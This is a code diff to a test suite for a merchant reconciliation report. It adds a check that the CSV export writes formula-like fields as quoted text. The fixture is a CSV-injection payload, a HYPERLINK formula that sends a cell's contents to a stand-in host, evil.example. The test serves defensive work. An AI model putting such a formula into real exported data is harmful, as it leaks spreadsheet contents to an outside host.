@@ -20,6 +20,14 @@ import { freePort } from '../../support/process.js';
  */
 
 const DAY = 24 * 60 * 60_000;
+const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Refund")';
+/** A text field as the CSV writes it: one a spreadsheet would run as a formula starts with a quote. */
+const asCsvText = (v: unknown) =>
+  v === null
+    ? ''
+    : typeof v === 'string' && /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v)
+      ? `'${v}`
+      : String(v);
 const dayOf = (ms: number) => new Date(ms).toISOString().slice(0, 10);
 
 describe('merchant: the reconciliation report', function () {
@@ -124,8 +132,7 @@ describe('merchant: the reconciliation report', function () {
     expect(parsed).to.have.length(json.length);
     for (const row of json) {
       const line = parsed.find((p) => p.order_id === row.order_id)!;
-      for (const column of REPORT_COLUMNS)
-        expect(line[column], column).to.equal(row[column] === null ? '' : String(row[column]));
+      for (const column of REPORT_COLUMNS) expect(line[column], column).to.equal(asCsvText(row[column]));
     }
     // The flagged row's reason has commas and quotes? It is quoted so it reads back whole.
     expect(parsed.find((p) => p.order_id === ids.flagged)!.reason).to.contain('differs');
@@ -179,6 +186,25 @@ describe('merchant: the reconciliation report', function () {
     const metrics = (await t.call('GET', '/metrics')).text;
     expect(metrics).to.contain('kit_report_orders{currency="EUR",classification="mismatched"} 1');
     expect(metrics).to.contain('kit_report_orders{currency="USD",classification="matched"} 1');
+  });
+
+  it('CSV: a field that would run as a formula in a spreadsheet is written as text', async () => {
+    // A reference a spreadsheet would run as a formula (CSV injection), taken by POST /orders as is.
+    // Made here, last, so that the tests above count the orders they expect.
+    const formula = await t.call('POST', '/orders', {
+      body: { amount: '1.00', currency: 'EUR', reference: FORMULA },
+      ops: true,
+    });
+    expect(formula.status, formula.text).to.equal(201);
+    ids.formula = formula.body.data.order.id;
+    // The day it was made on: the test above moved the clock on.
+    const day = Math.floor(Date.parse(formula.body.data.order.created_at) / DAY) * DAY;
+    const itsDay = `from=${dayOf(day)}&to=${dayOf(day + DAY)}`;
+    const json = (await report(itsDay)).body.data.rows;
+    expect(rowOf(json, ids.formula!).reference, 'the JSON keeps it as given').to.equal(FORMULA);
+    const csv = await report(`${itsDay}&format=csv`);
+    const parsed = parseCsv(csv.text, { columns: true }) as Record<string, string>[];
+    expect(parsed.find((p) => p.order_id === ids.formula)!.reference).to.equal(`'${FORMULA}`);
   });
 });
 
